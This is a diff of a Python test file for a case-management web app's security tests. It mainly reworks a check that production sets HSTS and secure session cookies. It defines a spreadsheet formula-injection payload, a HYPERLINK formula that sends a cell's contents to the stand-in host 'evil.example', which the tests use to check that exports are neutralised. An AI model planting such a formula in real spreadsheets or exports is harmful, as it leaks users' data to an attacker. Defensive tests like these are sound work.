@@ -6,10 +6,12 @@ alone, and an uploaded photo is re-encoded before anyone is served it."""
 import csv
 import io
 import os
+import secrets
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from fastapi.testclient import TestClient
 from PIL import Image
 from sqlalchemy import Engine, select, update
 
@@ -19,7 +21,16 @@ from cases.reports import pdf
 from cases.reports.exports import neutralise
 from cases.runtime import Runtime
 from cases.store import tables
-from tests.web import api_intake, bearer, client, make_app, make_web_office, sign_in
+from tests.web import (
+    PASSWORD,
+    api_intake,
+    bearer,
+    client,
+    csrf_of,
+    make_app,
+    make_web_office,
+    sign_in,
+)
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
@@ -73,20 +84,32 @@ def test_the_receipt_names_the_configured_address_not_the_host_header(
     assert "evil.example" not in page
 
 
-def test_production_asks_browsers_for_https_only(engine: Engine, rt: Runtime) -> None:
+def test_production_asks_browsers_for_https_only(
+    engine: Engine, rt: Runtime, monkeypatch: pytest.MonkeyPatch
+) -> None:
     make_web_office(engine)
+    # The test office is not a production one (cases/production.py refuses it); the headers are
+    # what is under test here.
+    monkeypatch.setattr("api.app.refuse_unsafe", lambda *_: None)
     dev = client(make_app(engine, rt)).get("/login")
     assert "strict-transport-security" not in dev.headers
-    from api.middleware import SecurityHeaders
-
-    async def page(scope: dict, receive: object, send: object) -> None:
-        await send({"type": "http.response.start", "status": 200, "headers": []})  # type: ignore[operator]
-        await send({"type": "http.response.body", "body": b""})  # type: ignore[operator]
-
-    from starlette.testclient import TestClient
-
-    prod = TestClient(SecurityHeaders(page, hsts=True)).get("/")  # type: ignore[arg-type]
-    assert prod.headers["strict-transport-security"].startswith("max-age=31536000")
+    keys = {"secret_key": secrets.token_bytes(32), "data_key": secrets.token_bytes(32)}
+    prod_rt = Runtime.from_settings(replace(rt.settings, env="prod", **keys))
+    c = TestClient(make_app(engine, prod_rt), base_url="https://testserver", follow_redirects=False)
+    page = c.get("/login")
+    assert page.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
+    signed_in = c.post(
+        "/login",
+        data={
+            "staff_no": "A001",
+            "password": PASSWORD,
+            "csrf_token": csrf_of(page.text),
+            "next": "/",
+        },
+    )
+    assert signed_in.status_code == 303
+    cookies = signed_in.headers.get_list("set-cookie")
+    assert cookies and all("secure" in cookie.lower() for cookie in cookies), cookies
 
 
 def test_printed_documents_load_only_the_apps_own_files() -> None:
